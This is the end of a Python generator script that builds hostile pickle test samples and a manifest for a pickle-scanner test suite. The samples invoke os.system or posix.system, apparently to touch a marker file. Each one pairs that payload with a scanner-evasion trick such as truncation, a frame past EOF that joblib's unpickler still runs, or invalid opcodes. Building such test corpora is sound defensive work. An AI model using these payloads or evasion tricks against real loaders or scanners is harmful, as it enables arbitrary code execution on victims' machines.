    add("d_type_confusion_after_payload", "D", "payload, then STACK_GLOBAL on ints",
        payload4 + POP + binint(42) + MEMOIZE + binget(0) + STACK_GLOBAL + STOP, "os.system",
        ("os", "system"))
    add("d_truncated_mid_argument", "D", "malicious pickle cut inside the command string",
        exploit2[:exploit2.index(b"touch") + 5], "posix.system", ("posix", "system"),
        dis="error")
    add("d_truncated_before_stop", "D", "malicious pickle without its final STOP",
        exploit2[:-1], "posix.system", ("posix", "system"), dis="error")
    # the FRAME now claims a byte past EOF: the C unpickler refuses the frame before any
    # opcode; pickle.py's _Unpickler, which joblib.load uses (numpy_pickle_utils.Unpickler),
    # does not check and runs the payload
    add("d_truncated_frame_p4", "D", "protocol-4 exploit without STOP: FRAME past EOF "
        "(joblib.load's pure-Python unpickler runs it)",
        exploit4[:-1], "posix.system", None, dis="error", pure_first=("posix", "system"))
    add("d_truncated_after_reduce_p0", "D", "protocol-0 pickle cut right after REDUCE",
        glob("os", "system") + tup(uni(cmd)) + REDUCE, "os.system", ("os", "system"),
        dis="error")
    add("d_proto6_after_payload", "D", "payload, then PROTO 6 (unsupported)",
        payload4 + POP + b"\x80\x06" + NONE + STOP, "os.system", ("os", "system"))
    add("d_huge_memo_after_payload", "D", "payload, then LONG_BINPUT 2**31-1 (MemoryError in C)",
        payload4 + b"r" + u32(0x7FFFFFFF) + STOP, "os.system", ("os", "system"))
    add("d_stack_underflow_after_payload", "D", "payload, then POP on an empty stack",
        payload4 + POP + POP + POP + NONE + STOP, "os.system", ("os", "system"))
    add("d_invalid_opcode_before_stop", "D", "protocol-0 exploit with an invalid opcode "
        "before STOP", pickle.dumps(Exploit(), protocol=0)[:-1] + b"\xff.", "posix.system",
        ("posix", "system"), dis="error")
    add("d_limit_after_payload", "D", "payload, then 300000 MARKs (a resource limit)",
        payload4 + POP + MARKOP * 300000 + NONE + STOP, "os.system", ("os", "system"))
    add("d_payload_after_fatal_error", "D",
        "BINGET of an unset key first: CPython fails before the payload, so a scanner may "
        "stop there (invalid) or read on (unsafe)",
        P4 + binget(7) + POP + sg("os", "system") + tup(su(cmd)) + REDUCE + STOP, "os.system",
        None, expect=["unsafe", "invalid"])
    return S


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("marker")
    a = ap.parse_args()
    out = Path(a.outdir)
    out.mkdir(parents=True, exist_ok=True)
    manifest = {}
    for name, family, technique, data, global_, first, extra in build(a.marker):
        got = brinetest.first_find_class(data)
        if (list(got) if got else None) != (list(first) if first else None):
            sys.exit("gen_hostile: %s: CPython's find_class is first asked for %r, the sample "
                     "claims %r" % (name, got, first))
        nested = extra.pop("nested", None)
        # the nested samples' py2 names come from protocol-2 pickles: mapped by find_class
        if nested is not None and ".".join(brinetest.py2_map(
                *(brinetest.first_find_class(nested) or ("", "")), 2)) != extra["nested_global"]:
            sys.exit("gen_hostile: %s: the nested pickle does not reach %s"
                     % (name, extra["nested_global"]))
        pure_first = extra.pop("pure_first", None)
        if pure_first and brinetest.first_find_class(data, pure=True) != pure_first:
            sys.exit("gen_hostile: %s: pickle.py's unpickler does not reach %r"
                     % (name, pure_first))
        # pickletools must read clean samples to the end, and must fail on broken ones
        spans = brinetest.pickle_spans(data)
        whole = bool(spans) and spans[-1][1] == len(data)
        dis = extra.get("dis")
        if whole != (dis is None) or (dis == "trailing") != (bool(spans) and not whole):
            sys.exit("gen_hostile: %s: pickletools reads %r of %d bytes, dis=%r"
                     % (name, spans, len(data), dis))
        fname = name + ".pkl"
        assert fname not in manifest, fname
        entry = {"expect": extra.pop("expect", ["unsafe"]), "global": global_,
                 "family": family, "technique": technique, "dis": extra.pop("dis", None),
                 "first_find_class": list(first) if first else None}
        entry.update(extra)
        manifest[fname] = entry
        (out / fname).write_bytes(data)
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    fams = {}
    for v in manifest.values():
        fams[v["family"]] = fams.get(v["family"], 0) + 1
    print("gen_hostile: %d files %s in %s" % (len(manifest), dict(sorted(fams.items())), out))


if __name__ == "__main__":
    main()
